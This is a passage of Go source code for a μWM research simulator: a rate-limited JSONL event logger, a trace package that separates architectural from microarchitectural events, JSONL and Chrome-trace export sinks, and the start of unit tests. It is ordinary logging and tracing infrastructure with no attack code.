	"encoding/json"
	"fmt"
	"io"
	"sort"
	"strconv"
	"sync"
	"time"

	"uwm/internal/metrics"
)

// Level is a record's severity.
type Level int8

// Severity levels, least to most severe. Info is deliberately the zero
// value: Config.MinLevel's default filter is Info, and selecting Debug
// is an explicit opt-in.
const (
	Debug Level = iota - 1
	Info
	Warn
	Error
)

// String names the level the way the JSONL encoding spells it.
func (l Level) String() string {
	switch l {
	case Debug:
		return "debug"
	case Info:
		return "info"
	case Warn:
		return "warn"
	case Error:
		return "error"
	default:
		return "level(" + strconv.Itoa(int(l)) + ")"
	}
}

// ParseLevel resolves a level name; it reports false for unknown names.
func ParseLevel(s string) (Level, bool) {
	switch s {
	case "debug":
		return Debug, true
	case "info":
		return Info, true
	case "warn":
		return Warn, true
	case "error":
		return Error, true
	default:
		return Info, false
	}
}

// MarshalJSON encodes the level as its name.
func (l Level) MarshalJSON() ([]byte, error) { return json.Marshal(l.String()) }

// UnmarshalJSON decodes a level name; unknown names degrade to Info so
// a replay of a newer stream keeps going.
func (l *Level) UnmarshalJSON(b []byte) error {
	var s string
	if err := json.Unmarshal(b, &s); err != nil {
		return err
	}
	v, _ := ParseLevel(s)
	*l = v
	return nil
}

// Field is one ordered key=value attribute of a record. Fields are a
// slice, not a map: the JSONL encoding must be byte-stable so recorded
// streams diff and replay deterministically.
type Field struct {
	Key   string
	Value string
}

// F is shorthand for constructing a Field.
func F(key, value string) Field { return Field{Key: key, Value: value} }

// Fields is the ordered attribute list; it marshals as a JSON object
// in slice order.
type Fields []Field

// MarshalJSON renders the fields as an object, preserving order.
func (fs Fields) MarshalJSON() ([]byte, error) {
	var buf []byte
	buf = append(buf, '{')
	for i, f := range fs {
		if i > 0 {
			buf = append(buf, ',')
		}
		k, err := json.Marshal(f.Key)
		if err != nil {
			return nil, err
		}
		v, err := json.Marshal(f.Value)
		if err != nil {
			return nil, err
		}
		buf = append(buf, k...)
		buf = append(buf, ':')
		buf = append(buf, v...)
	}
	return append(buf, '}'), nil
}

// UnmarshalJSON decodes an object back into ordered fields. JSON
// objects are unordered on the wire, so decoded fields are sorted by
// key — replay consumers address fields by key, never by position.
func (fs *Fields) UnmarshalJSON(b []byte) error {
	var m map[string]string
	if err := json.Unmarshal(b, &m); err != nil {
		return err
	}
	out := make(Fields, 0, len(m))
	for k, v := range m {
		out = append(out, Field{Key: k, Value: v})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Key < out[j].Key })
	*fs = out
	return nil
}

// Get returns the value of the named field, or "".
func (fs Fields) Get(key string) string {
	for _, f := range fs {
		if f.Key == key {
			return f.Value
		}
	}
	return ""
}

// Record is one structured log entry.
type Record struct {
	// At is the record's timestamp. The logger stamps it from its clock
	// when zero; emitters that already hold a virtual-clock time (the
	// SLO engine's observations) set it so the written stream replays
	// on the same timeline.
	At        time.Time `json:"at"`
	Level     Level     `json:"level"`
	Component string    `json:"component"`
	// Event is the short machine-readable key ("job.retry",
	// "worker.panic", "alert.fire"); consumers filter on it.
	Event string `json:"event"`
	Msg   string `json:"msg,omitempty"`
	// Correlation ids: the job, the caller's request, and the kept
	// flight-recording (when the recorder kept one; it resolves at
	// GET /v1/jobs/{id}/trace).
	JobID     string `json:"job_id,omitempty"`
	RequestID string `json:"request_id,omitempty"`
	TraceID   string `json:"trace_id,omitempty"`
	Fields    Fields `json:"fields,omitempty"`
	// Data carries a structured payload (an slo.Observation, an alert
	// transition) for consumers that replay the stream.
	Data json.RawMessage `json:"data,omitempty"`
	// Suppressed is stamped by the logger: how many records of this
	// (component, event) the rate limiter dropped since the last one
	// that passed.
	Suppressed uint64 `json:"suppressed,omitempty"`

	// Unlimited bypasses the rate limiter — for records that are
	// replay substrate (observations, alert transitions) rather than
	// diagnostics. Never serialized.
	Unlimited bool `json:"-"`
}

// Metric series exported by the logger.
const (
	MetricRecords    = "uwm_evlog_records_total"
	MetricSuppressed = "uwm_evlog_suppressed_total"
)

// Config tunes a Logger. The zero value selects the defaults below.
type Config struct {
	// W receives the JSONL stream; nil keeps records only in the ring.
	W io.Writer
	// MinLevel drops records below this severity (default Info; use
	// Debug to keep everything).
	MinLevel Level
	// Ring bounds the in-memory tail served by Recent (default 256;
	// negative disables the ring).
	Ring int
	// Burst is the rate limiter's bucket size per (component, event)
	// key (default 10).
	Burst int
	// PerSecond is the limiter's refill rate (default 5). Zero selects
	// the default; negative disables rate limiting entirely.
	PerSecond float64
	// Clock supplies timestamps for records that arrive unstamped;
	// nil selects time.Now. Tests and offline replays inject a virtual
	// clock so the written stream is deterministic.
	Clock func() time.Time
	// Metrics, when non-nil, receives the logger's instruments.
	Metrics *metrics.Registry
}

func (c Config) withDefaults() Config {
	if c.Ring == 0 {
		c.Ring = 256
	}
	if c.Ring < 0 {
		c.Ring = 0
	}
	if c.Burst <= 0 {
		c.Burst = 10
	}
	if c.PerSecond == 0 {
		c.PerSecond = 5
	}
	if c.Clock == nil {
		c.Clock = time.Now
	}
	return c
}

// bucket is one (component, event) token bucket.
type bucket struct {
	tokens     float64
	last       time.Time
	suppressed uint64
}

// Logger writes structured records. All methods are safe for
// concurrent use, and the nil Logger is a valid, disabled logger —
// every method no-ops — so uninstrumented engines pay one nil check.
type Logger struct {
	mu      sync.Mutex
	cfg     Config
	buckets map[string]*bucket
	ring    []Record
	start   int
	werr    error

	records    [4]*metrics.Counter // by level
	suppressed *metrics.Counter
}

// New builds a Logger.
func New(cfg Config) *Logger {
	cfg = cfg.withDefaults()
	l := &Logger{cfg: cfg, buckets: make(map[string]*bucket)}
	if cfg.Ring > 0 {
		l.ring = make([]Record, 0, cfg.Ring)
	}
	reg := cfg.Metrics
	for lv := Debug; lv <= Error; lv++ {
		l.records[levelIndex(lv)] = reg.Counter(MetricRecords,
			"structured log records written, by level", metrics.L("level", lv.String()))
	}
	l.suppressed = reg.Counter(MetricSuppressed,
		"structured log records dropped by the rate limiter")
	return l
}

// Emit files one record: below-level and rate-limited records are
// dropped (and counted), everything else is stamped, ringed and
// written as one JSON line.
func (l *Logger) Emit(r Record) {
	if l == nil {
		return
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	if r.Level < l.cfg.MinLevel {
		return
	}
	if r.At.IsZero() {
		r.At = l.cfg.Clock()
	}
	if !r.Unlimited && l.cfg.PerSecond > 0 {
		key := r.Component + "\x00" + r.Event
		b := l.buckets[key]
		if b == nil {
			b = &bucket{tokens: float64(l.cfg.Burst), last: r.At}
			l.buckets[key] = b
		}
		if dt := r.At.Sub(b.last).Seconds(); dt > 0 {
			b.tokens += dt * l.cfg.PerSecond
			if b.tokens > float64(l.cfg.Burst) {
				b.tokens = float64(l.cfg.Burst)
			}
			b.last = r.At
		}
		if b.tokens < 1 {
			b.suppressed++
			l.suppressed.Inc()
			return
		}
		b.tokens--
		if b.suppressed > 0 {
			r.Suppressed = b.suppressed
			b.suppressed = 0
		}
	}
	l.records[levelIndex(r.Level)].Inc()
	l.pushLocked(r)
	if l.cfg.W != nil {
		b, err := json.Marshal(r)
		if err == nil {
			b = append(b, '\n')
			_, err = l.cfg.W.Write(b)
		}
		if err != nil && l.werr == nil {
			l.werr = err
		}
	}
}

// levelIndex clamps a level into the counter array (Debug is -1).
func levelIndex(l Level) int {
	if l < Debug {
		l = Debug
	}
	if l > Error {
		l = Error
	}
	return int(l - Debug)
}

// pushLocked appends to the bounded ring.
func (l *Logger) pushLocked(r Record) {
	if l.cfg.Ring <= 0 {
		return
	}
	if len(l.ring) < l.cfg.Ring {
		l.ring = append(l.ring, r)
		return
	}
	l.ring[l.start] = r
	l.start++
	if l.start == len(l.ring) {
		l.start = 0
	}
}

// Recent returns the ring's records, oldest first.
func (l *Logger) Recent() []Record {
	if l == nil {
		return nil
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	out := make([]Record, 0, len(l.ring))
	out = append(out, l.ring[l.start:]...)
	out = append(out, l.ring[:l.start]...)
	return out
}

// Err returns the first write error the sink reported, if any — the
// log is best-effort and never fails the caller, but a draining server
// wants to know its stream went dark.
func (l *Logger) Err() error {
	if l == nil {
		return nil
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.werr
}

// DecodeJSONL parses a recorded JSONL stream back into records —
// the replay side of the log. Blank lines are skipped; a malformed
// line fails the decode with its line number, because a replay against
// a silently truncated stream would fabricate a wrong timeline.
func DecodeJSONL(r io.Reader) ([]Record, error) {
	dec := json.NewDecoder(r)
	var out []Record
	for i := 1; ; i++ {
		var rec Record
		if err := dec.Decode(&rec); err == io.EOF {
			return out, nil
		} else if err != nil {
			return out, fmt.Errorf("evlog: record %d: %w", i, err)
		}
		out = append(out, rec)
	}
}
