// Package trace records the simulator's execution events on two distinct
// planes: the architectural plane (committed instructions, register and
// memory writes — everything a debugger or emulator can observe) and the
// microarchitectural plane (speculative execution, cache fills and
// evictions, transaction internals — the plane μWMs compute on).
//
// The split is the point of the paper: package analyzer builds the
// defender's view exclusively from architectural events, and the
// obfuscation tests prove that the weird computation never appears there.
//
// Events flow through the Sink interface: the buffering Recorder is one
// implementation; JSONLSink and ChromeSink stream events to files (the
// latter in the Chrome trace_event format that chrome://tracing and
// Perfetto open directly); Tee fans one event stream out to several
// sinks.
package trace

import "fmt"

// Kind enumerates event types.
type Kind uint8

// Event kinds. Kinds below microBoundary are architectural.
const (
	KindCommit Kind = iota // architectural: instruction committed
	KindRegWrite
	KindMemWrite
	KindTxBegin // architectural: XBEGIN committed
	KindTxEnd   // architectural: transaction committed
	KindTxAbort // architectural: control arrived at abort handler

	microBoundary

	KindSpecStart   Kind = iota // μarch: speculative window opened
	KindSpecExec                // μarch: instruction executed transiently
	KindSpecEnd                 // μarch: window closed / rolled back
	KindCacheFill               // μarch: line filled
	KindCacheEvict              // μarch: line evicted
	KindCacheFlush              // μarch: line flushed
	KindTimedRead               // μarch: measured latency value
	KindNoise                   // μarch: injected noise event
	KindSpanBegin               // μarch: profiling frame opened (Value=span id, Addr=parent id, Text=frame)
	KindSpanEnd                 // μarch: profiling frame closed (Value=span id, Text=frame)
	KindCalibration             // μarch: timing threshold (re)calibrated (Value=threshold cycles)
	KindAnnotation              // μarch: free-form attribute attached to a span (Addr=span id, Text=key=value pairs)

	kindEnd // sentinel; keep last
)

// AllKinds returns every declared event kind in declaration order. The
// kind tests iterate this to force plane/name updates when a kind is
// added, and the file sinks use it to emit category metadata.
func AllKinds() []Kind {
	out := make([]Kind, 0, int(kindEnd)-1)
	for k := Kind(0); k < kindEnd; k++ {
		if k == microBoundary {
			continue
		}
		out = append(out, k)
	}
	return out
}

// Architectural reports whether events of this kind are visible on the
// architectural plane (i.e. to a debugger with full register/memory
// visibility but no microarchitectural instrumentation).
func (k Kind) Architectural() bool { return k < microBoundary }

// String names the kind.
func (k Kind) String() string {
	switch k {
	case KindCommit:
		return "commit"
	case KindRegWrite:
		return "reg-write"
	case KindMemWrite:
		return "mem-write"
	case KindTxBegin:
		return "tx-begin"
	case KindTxEnd:
		return "tx-end"
	case KindTxAbort:
		return "tx-abort"
	case KindSpecStart:
		return "spec-start"
	case KindSpecExec:
		return "spec-exec"
	case KindSpecEnd:
		return "spec-end"
	case KindCacheFill:
		return "cache-fill"
	case KindCacheEvict:
		return "cache-evict"
	case KindCacheFlush:
		return "cache-flush"
	case KindTimedRead:
		return "timed-read"
	case KindNoise:
		return "noise"
	case KindSpanBegin:
		return "span-begin"
	case KindSpanEnd:
		return "span-end"
	case KindCalibration:
		return "calibration"
	case KindAnnotation:
		return "annotation"
	default:
		return fmt.Sprintf("kind(%d)", uint8(k))
	}
}

// ParseKind resolves a kind name (as produced by Kind.String and the
// JSONL sink) back to its Kind — the inverse mapping the offline trace
// parser needs. It reports false for unknown names.
func ParseKind(name string) (Kind, bool) {
	k, ok := kindByName[name]
	return k, ok
}

var kindByName = func() map[string]Kind {
	m := make(map[string]Kind)
	for _, k := range AllKinds() {
		m[k.String()] = k
	}
	return m
}()

// Event is one recorded simulator event.
//
// Span events (KindSpanBegin/KindSpanEnd) reuse the scalar fields: Value
// carries the span id, Addr the parent span id (0 for a root span) and
// Text the frame name ("gate:TSX_AND", "cpu:fire", ...). The pair with
// matching ids brackets the virtual cycles the frame consumed — the raw
// material of the vprof cycle profiler.
type Event struct {
	Kind  Kind
	Cycle int64  // simulated TSC when the event happened
	PC    uint64 // code address, when applicable
	Addr  uint64 // data address / parent span id, when applicable
	Value uint64 // written value / measured latency / span id, when applicable
	Text  string // disassembly, frame name, or free-form detail
}

// String renders the event for logs.
func (e Event) String() string {
	return fmt.Sprintf("[%10d] %-11s pc=%#x addr=%#x val=%d %s",
		e.Cycle, e.Kind, e.PC, e.Addr, e.Value, e.Text)
}

// Sink consumes the simulator's event stream. Implementations:
// Recorder (bounded in-memory ring), JSONLSink and ChromeSink
// (streaming file export), Tee (fan-out). A sink may optionally
// implement Enabled() bool to advertise that it is currently dropping
// everything; emitters use Enabled to skip expensive event assembly
// (disassembly, formatting).
type Sink interface {
	Emit(e Event)
}

// Enabled reports whether events emitted to s can currently be
// observed: false for a nil Sink, the sink's own answer when it
// implements Enabled() bool (e.g. a toggled-off Recorder), and true
// otherwise.
func Enabled(s Sink) bool {
	if s == nil {
		return false
	}
	if e, ok := s.(interface{ Enabled() bool }); ok {
		return e.Enabled()
	}
	return true
}

// Tee returns a Sink forwarding every event to each non-nil sink. It
// returns nil when no live sink remains and the sink itself when only
// one does, so emitters keep their cheap single-sink path.
func Tee(sinks ...Sink) Sink {
	live := make([]Sink, 0, len(sinks))
	for _, s := range sinks {
		if s != nil {
			live = append(live, s)
		}
	}
	switch len(live) {
	case 0:
		return nil
	case 1:
		return live[0]
	default:
		return multiSink(live)
	}
}

type multiSink []Sink

// Emit implements Sink.
func (m multiSink) Emit(e Event) {
	for _, s := range m {
		s.Emit(e)
	}
}

// Enabled reports whether any fanned-out sink is live.
func (m multiSink) Enabled() bool {
	for _, s := range m {
		if Enabled(s) {
			return true
		}
	}
	return false
}

// Recorder collects events in a bounded ring buffer. When the limit is
// hit the *oldest* events are overwritten so the buffer always holds
// the newest tail of the run — the interesting part when a gate
// misfires at the end of a long sweep. The zero value is a disabled
// recorder; a disabled recorder drops events with near-zero cost so
// that hot benchmark loops are unaffected.
type Recorder struct {
	enabled bool
	limit   int
	events  []Event
	start   int // ring: index of the oldest stored event
	dropped int
}

// NewRecorder returns an enabled recorder keeping the newest limit
// events (0 means unlimited).
func NewRecorder(limit int) *Recorder {
	return &Recorder{enabled: true, limit: limit}
}

// Enabled reports whether the recorder stores events.
func (r *Recorder) Enabled() bool { return r != nil && r.enabled }

// SetEnabled toggles recording.
func (r *Recorder) SetEnabled(on bool) { r.enabled = on }

// Record stores an event if recording is enabled, overwriting the
// oldest stored event once the limit is reached.
func (r *Recorder) Record(e Event) {
	if r == nil || !r.enabled {
		return
	}
	if r.limit > 0 && len(r.events) >= r.limit {
		r.events[r.start] = e
		r.start++
		if r.start == len(r.events) {
			r.start = 0
		}
		r.dropped++
		return
	}
	r.events = append(r.events, e)
}

// Emit implements Sink.
func (r *Recorder) Emit(e Event) { r.Record(e) }

// Events returns all stored events in order, oldest first.
func (r *Recorder) Events() []Event {
	if r == nil {
		return nil
	}
	if r.start == 0 {
		return r.events
	}
	out := make([]Event, 0, len(r.events))
	out = append(out, r.events[r.start:]...)
	out = append(out, r.events[:r.start]...)
	return out
}

// Dropped returns how many events were overwritten due to the limit.
func (r *Recorder) Dropped() int {
	if r == nil {
		return 0
	}
	return r.dropped
}

// Reset clears stored events.
func (r *Recorder) Reset() {
	if r == nil {
		return
	}
	r.events = r.events[:0]
	r.start = 0
	r.dropped = 0
}

// Architectural returns only the events visible on the architectural
// plane, in order — the defender's complete evidence.
func (r *Recorder) Architectural() []Event {
	var out []Event
	for _, e := range r.Events() {
		if e.Kind.Architectural() {
			out = append(out, e)
		}
	}
	return out
}

// Filter returns the events of the given kind.
func (r *Recorder) Filter(k Kind) []Event {
	var out []Event
	for _, e := range r.Events() {
		if e.Kind == k {
			out = append(out, e)
		}
	}
	return out
}

// Count returns how many events of kind k were recorded.
func (r *Recorder) Count(k Kind) int {
	n := 0
	for _, e := range r.Events() {
		if e.Kind == k {
			n++
		}
	}
	return n
}
