// Package trace records the simulator's execution events on two distinct
// planes: the architectural plane (committed instructions, register and
// memory writes — everything a debugger or emulator can observe) and the
// microarchitectural plane (speculative execution, cache fills and
// evictions, transaction internals — the plane μWMs compute on).
//
// The split is the point of the paper: package analyzer builds the
// defender's view exclusively from architectural events, and the
// obfuscation tests prove that the weird computation never appears there.
package trace

import "fmt"

// Kind enumerates event types.
type Kind uint8

// Event kinds. Kinds below microBoundary are architectural.
const (
	KindCommit Kind = iota // architectural: instruction committed
	KindRegWrite
	KindMemWrite
	KindTxBegin // architectural: XBEGIN committed
	KindTxEnd   // architectural: transaction committed
	KindTxAbort // architectural: control arrived at abort handler

	microBoundary

	KindSpecStart  Kind = iota // μarch: speculative window opened
	KindSpecExec               // μarch: instruction executed transiently
	KindSpecEnd                // μarch: window closed / rolled back
	KindCacheFill              // μarch: line filled
	KindCacheEvict             // μarch: line evicted
	KindCacheFlush             // μarch: line flushed
	KindTimedRead              // μarch: measured latency value
	KindNoise                  // μarch: injected noise event
)

// Architectural reports whether events of this kind are visible on the
// architectural plane (i.e. to a debugger with full register/memory
// visibility but no microarchitectural instrumentation).
func (k Kind) Architectural() bool { return k < microBoundary }

// String names the kind.
func (k Kind) String() string {
	switch k {
	case KindCommit:
		return "commit"
	case KindRegWrite:
		return "reg-write"
	case KindMemWrite:
		return "mem-write"
	case KindTxBegin:
		return "tx-begin"
	case KindTxEnd:
		return "tx-end"
	case KindTxAbort:
		return "tx-abort"
	case KindSpecStart:
		return "spec-start"
	case KindSpecExec:
		return "spec-exec"
	case KindSpecEnd:
		return "spec-end"
	case KindCacheFill:
		return "cache-fill"
	case KindCacheEvict:
		return "cache-evict"
	case KindCacheFlush:
		return "cache-flush"
	case KindTimedRead:
		return "timed-read"
	case KindNoise:
		return "noise"
	default:
		return fmt.Sprintf("kind(%d)", uint8(k))
	}
}

// Event is one recorded simulator event.
type Event struct {
	Kind  Kind
	Cycle int64  // simulated TSC when the event happened
	PC    uint64 // code address, when applicable
	Addr  uint64 // data address, when applicable
	Value uint64 // written value / measured latency, when applicable
	Text  string // disassembly or free-form detail
}

// String renders the event for logs.
func (e Event) String() string {
	return fmt.Sprintf("[%10d] %-11s pc=%#x addr=%#x val=%d %s",
		e.Cycle, e.Kind, e.PC, e.Addr, e.Value, e.Text)
}

// Recorder collects events. The zero value is a disabled recorder; a
// disabled recorder drops events with near-zero cost so that hot
// benchmark loops are unaffected.
type Recorder struct {
	enabled bool
	limit   int
	events  []Event
	dropped int
}

// NewRecorder returns an enabled recorder keeping at most limit events
// (0 means unlimited).
func NewRecorder(limit int) *Recorder {
	return &Recorder{enabled: true, limit: limit}
}

// Enabled reports whether the recorder stores events.
func (r *Recorder) Enabled() bool { return r != nil && r.enabled }

// SetEnabled toggles recording.
func (r *Recorder) SetEnabled(on bool) { r.enabled = on }

// Record stores an event if recording is enabled.
func (r *Recorder) Record(e Event) {
	if r == nil || !r.enabled {
		return
	}
	if r.limit > 0 && len(r.events) >= r.limit {
		r.dropped++
		return
	}
	r.events = append(r.events, e)
}

// Events returns all stored events in order.
func (r *Recorder) Events() []Event {
	if r == nil {
		return nil
	}
	return r.events
}

// Dropped returns how many events were discarded due to the limit.
func (r *Recorder) Dropped() int {
	if r == nil {
		return 0
	}
	return r.dropped
}

// Reset clears stored events.
func (r *Recorder) Reset() {
	if r == nil {
		return
	}
	r.events = r.events[:0]
	r.dropped = 0
}

// Architectural returns only the events visible on the architectural
// plane, in order — the defender's complete evidence.
func (r *Recorder) Architectural() []Event {
	var out []Event
	for _, e := range r.Events() {
		if e.Kind.Architectural() {
			out = append(out, e)
		}
	}
	return out
}

// Filter returns the events of the given kind.
func (r *Recorder) Filter(k Kind) []Event {
	var out []Event
	for _, e := range r.Events() {
		if e.Kind == k {
			out = append(out, e)
		}
	}
	return out
}

// Count returns how many events of kind k were recorded.
func (r *Recorder) Count(k Kind) int {
	n := 0
	for _, e := range r.Events() {
		if e.Kind == k {
			n++
		}
	}
	return n
}
