package trace

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
)

// jsonEvent is the JSONL wire form of one Event.
type jsonEvent struct {
	Kind  string `json:"kind"`
	Plane string `json:"plane"`
	Cycle int64  `json:"cycle"`
	PC    uint64 `json:"pc,omitempty"`
	Addr  uint64 `json:"addr,omitempty"`
	Value uint64 `json:"value,omitempty"`
	Text  string `json:"text,omitempty"`
}

func plane(k Kind) string {
	if k.Architectural() {
		return "arch"
	}
	return "uarch"
}

// JSONLSink streams every event as one JSON object per line — the
// machine-readable export for offline analysis (jq, pandas). Events
// are buffered; Close flushes. The sink is not safe for concurrent
// Emit calls, matching the single-threaded simulator.
type JSONLSink struct {
	w      *bufio.Writer
	closer io.Closer
	enc    *json.Encoder
	n      int
	err    error
}

// NewJSONLSink wraps w in a streaming JSONL sink. When w is also an
// io.Closer, Close closes it.
func NewJSONLSink(w io.Writer) *JSONLSink {
	bw := bufio.NewWriterSize(w, 64<<10)
	s := &JSONLSink{w: bw, enc: json.NewEncoder(bw)}
	if c, ok := w.(io.Closer); ok {
		s.closer = c
	}
	return s
}

// Emit implements Sink.
func (s *JSONLSink) Emit(e Event) {
	if s.err != nil {
		return
	}
	s.n++
	s.err = s.enc.Encode(jsonEvent{
		Kind:  e.Kind.String(),
		Plane: plane(e.Kind),
		Cycle: e.Cycle,
		PC:    e.PC,
		Addr:  e.Addr,
		Value: e.Value,
		Text:  e.Text,
	})
}

// Count returns how many events were emitted.
func (s *JSONLSink) Count() int { return s.n }

// Close flushes buffered lines and closes the underlying writer when
// it is closable, returning the first error encountered.
func (s *JSONLSink) Close() error {
	if err := s.w.Flush(); err != nil && s.err == nil {
		s.err = err
	}
	if s.closer != nil {
		if err := s.closer.Close(); err != nil && s.err == nil {
			s.err = err
		}
	}
	return s.err
}

// ChromeSink streams events in the Chrome trace_event JSON format, so
// a full μWM run — training loops, speculative windows, TSX regions,
// cache fills — opens directly in chrome://tracing or Perfetto
// (ui.perfetto.dev). Simulated cycles are mapped 1:1 onto trace
// microseconds.
//
// Span mapping:
//   - a speculative window becomes a complete ("X") slice at its start
//     cycle whose duration is the window length carried in the
//     spec-start event;
//   - a TSX region becomes a complete slice from tx-begin to
//     tx-end/tx-abort, with the outcome in args;
//   - a profiling span (span-begin/span-end) becomes a duration pair
//     ("B"/"E") named by its frame, so Perfetto nests gate, circuit and
//     component bars exactly as the emitters opened them;
//   - every other event becomes a thread-scoped instant ("i") with the
//     event payload in args, categorised by plane ("arch"/"uarch") so
//     the two planes can be toggled independently.
type ChromeSink struct {
	w      *bufio.Writer
	closer io.Closer
	first  bool
	err    error
	n      int

	txOpen  bool
	txBegin int64
	txPC    uint64

	// spanNames maps open span ids to frame names so the "E" record can
	// repeat the name Perfetto matches visually (span-end events carry
	// it too, but a truncated begin must not render anonymously).
	spanNames map[uint64]string
}

// NewChromeSink wraps w in a trace_event sink and writes the stream
// preamble. When w is also an io.Closer, Close closes it.
func NewChromeSink(w io.Writer) *ChromeSink {
	bw := bufio.NewWriterSize(w, 64<<10)
	s := &ChromeSink{w: bw, first: true}
	if c, ok := w.(io.Closer); ok {
		s.closer = c
	}
	_, s.err = bw.WriteString(`{"displayTimeUnit":"ns","traceEvents":[`)
	s.emitRaw(map[string]any{
		"name": "process_name", "ph": "M", "pid": 1, "tid": 1,
		"args": map[string]any{"name": "uwm simulator"},
	})
	s.emitRaw(map[string]any{
		"name": "thread_name", "ph": "M", "pid": 1, "tid": 1,
		"args": map[string]any{"name": "virtual core (cycles as µs)"},
	})
	return s
}

// emitRaw writes one trace_event object.
func (s *ChromeSink) emitRaw(obj map[string]any) {
	if s.err != nil {
		return
	}
	b, err := json.Marshal(obj)
	if err != nil {
		s.err = err
		return
	}
	if !s.first {
		if _, s.err = s.w.WriteString(",\n"); s.err != nil {
			return
		}
	}
	s.first = false
	_, s.err = s.w.Write(b)
	s.n++
}

// args builds the common payload map.
func eventArgs(e Event) map[string]any {
	a := map[string]any{}
	if e.PC != 0 {
		a["pc"] = fmt.Sprintf("%#x", e.PC)
	}
	if e.Addr != 0 {
		a["addr"] = fmt.Sprintf("%#x", e.Addr)
	}
	if e.Value != 0 {
		a["value"] = e.Value
	}
	if e.Text != "" {
		a["text"] = e.Text
	}
	return a
}

// Emit implements Sink.
func (s *ChromeSink) Emit(e Event) {
	switch e.Kind {
	case KindSpecStart:
		// Value carries the window length in cycles; a zero-length
		// window still gets a visible sliver.
		dur := e.Value
		if dur == 0 {
			dur = 1
		}
		s.emitRaw(map[string]any{
			"name": "spec-window", "cat": "uarch", "ph": "X",
			"ts": e.Cycle, "dur": dur, "pid": 1, "tid": 1,
			"args": eventArgs(e),
		})
	case KindSpanBegin:
		if s.spanNames == nil {
			s.spanNames = make(map[uint64]string)
		}
		s.spanNames[e.Value] = e.Text
		s.emitRaw(map[string]any{
			"name": e.Text, "cat": "uarch", "ph": "B",
			"ts": e.Cycle, "pid": 1, "tid": 1,
			"args": map[string]any{"span": e.Value, "parent": e.Addr},
		})
	case KindSpanEnd:
		name := e.Text
		if n, ok := s.spanNames[e.Value]; ok {
			name = n
			delete(s.spanNames, e.Value)
		}
		s.emitRaw(map[string]any{
			"name": name, "cat": "uarch", "ph": "E",
			"ts": e.Cycle, "pid": 1, "tid": 1,
			"args": map[string]any{"span": e.Value},
		})
	case KindTxBegin:
		s.txOpen = true
		s.txBegin = e.Cycle
		s.txPC = e.PC
	case KindTxEnd, KindTxAbort:
		outcome := "commit"
		if e.Kind == KindTxAbort {
			outcome = "abort"
		}
		begin := e.Cycle - 1
		if s.txOpen {
			begin = s.txBegin
		}
		dur := e.Cycle - begin
		if dur <= 0 {
			dur = 1
		}
		args := eventArgs(e)
		args["outcome"] = outcome
		if s.txPC != 0 {
			args["xbegin_pc"] = fmt.Sprintf("%#x", s.txPC)
		}
		s.emitRaw(map[string]any{
			"name": "tsx-region", "cat": "arch", "ph": "X",
			"ts": begin, "dur": dur, "pid": 1, "tid": 1,
			"args": args,
		})
		s.txOpen = false
		s.txPC = 0
	default:
		s.emitRaw(map[string]any{
			"name": e.Kind.String(), "cat": plane(e.Kind), "ph": "i",
			"ts": e.Cycle, "pid": 1, "tid": 1, "s": "t",
			"args": eventArgs(e),
		})
	}
}

// Count returns how many trace_event records were written.
func (s *ChromeSink) Count() int { return s.n }

// Close terminates the JSON document, flushes, and closes the
// underlying writer when it is closable.
func (s *ChromeSink) Close() error {
	if s.err == nil {
		_, s.err = s.w.WriteString("]}\n")
	}
	if err := s.w.Flush(); err != nil && s.err == nil {
		s.err = err
	}
	if s.closer != nil {
		if err := s.closer.Close(); err != nil && s.err == nil {
			s.err = err
		}
	}
	return s.err
}

// EncodeJSONL renders a finished event slice to w in the JSONL wire
// format — the exact lines a streaming JSONLSink would have produced.
// It is the export path for callers that hold buffered recordings (the
// flight recorder's trace downloads and post-mortem dumps) rather than
// a live stream. w is flushed but never closed.
func EncodeJSONL(w io.Writer, events []Event) error {
	bw := bufio.NewWriterSize(w, 64<<10)
	enc := json.NewEncoder(bw)
	for _, e := range events {
		if err := enc.Encode(jsonEvent{
			Kind:  e.Kind.String(),
			Plane: plane(e.Kind),
			Cycle: e.Cycle,
			PC:    e.PC,
			Addr:  e.Addr,
			Value: e.Value,
			Text:  e.Text,
		}); err != nil {
			return err
		}
	}
	return bw.Flush()
}

// FileSink opens path and returns a streaming sink selected by
// extension: ".jsonl" (or ".ndjson") for line-delimited JSON, anything
// else — conventionally ".json" — for the Chrome trace_event format.
// The returned closer flushes and closes the file.
func FileSink(path string) (Sink, io.Closer, error) {
	f, err := os.Create(path)
	if err != nil {
		return nil, nil, err
	}
	switch strings.ToLower(filepath.Ext(path)) {
	case ".jsonl", ".ndjson":
		s := NewJSONLSink(f)
		return s, s, nil
	default:
		s := NewChromeSink(f)
		return s, s, nil
	}
}
