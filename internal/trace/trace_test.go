package trace

import (
	"strings"
	"testing"
)

func TestKindPlaneSplit(t *testing.T) {
	arch := []Kind{KindCommit, KindRegWrite, KindMemWrite, KindTxBegin, KindTxEnd, KindTxAbort}
	micro := []Kind{KindSpecStart, KindSpecExec, KindSpecEnd, KindCacheFill, KindCacheEvict, KindCacheFlush, KindTimedRead, KindNoise}
	for _, k := range arch {
		if !k.Architectural() {
			t.Errorf("%v should be architectural", k)
		}
	}
	for _, k := range micro {
		if k.Architectural() {
			t.Errorf("%v should be microarchitectural", k)
		}
	}
}

func TestKindStrings(t *testing.T) {
	for _, k := range []Kind{KindCommit, KindRegWrite, KindMemWrite, KindTxBegin,
		KindTxEnd, KindTxAbort, KindSpecStart, KindSpecExec, KindSpecEnd,
		KindCacheFill, KindCacheEvict, KindCacheFlush, KindTimedRead, KindNoise} {
		if s := k.String(); s == "" || strings.HasPrefix(s, "kind(") {
			t.Errorf("kind %d has no name", k)
		}
	}
	if !strings.HasPrefix(Kind(200).String(), "kind(") {
		t.Error("unknown kind should render numerically")
	}
}

func TestRecorderBasics(t *testing.T) {
	r := NewRecorder(0)
	r.Record(Event{Kind: KindCommit, Text: "nop"})
	r.Record(Event{Kind: KindCacheFill, Addr: 0x40})
	if len(r.Events()) != 2 {
		t.Fatalf("events = %d", len(r.Events()))
	}
	if got := r.Architectural(); len(got) != 1 || got[0].Kind != KindCommit {
		t.Errorf("architectural = %v", got)
	}
	if r.Count(KindCacheFill) != 1 || r.Count(KindMemWrite) != 0 {
		t.Error("counts wrong")
	}
	if f := r.Filter(KindCacheFill); len(f) != 1 || f[0].Addr != 0x40 {
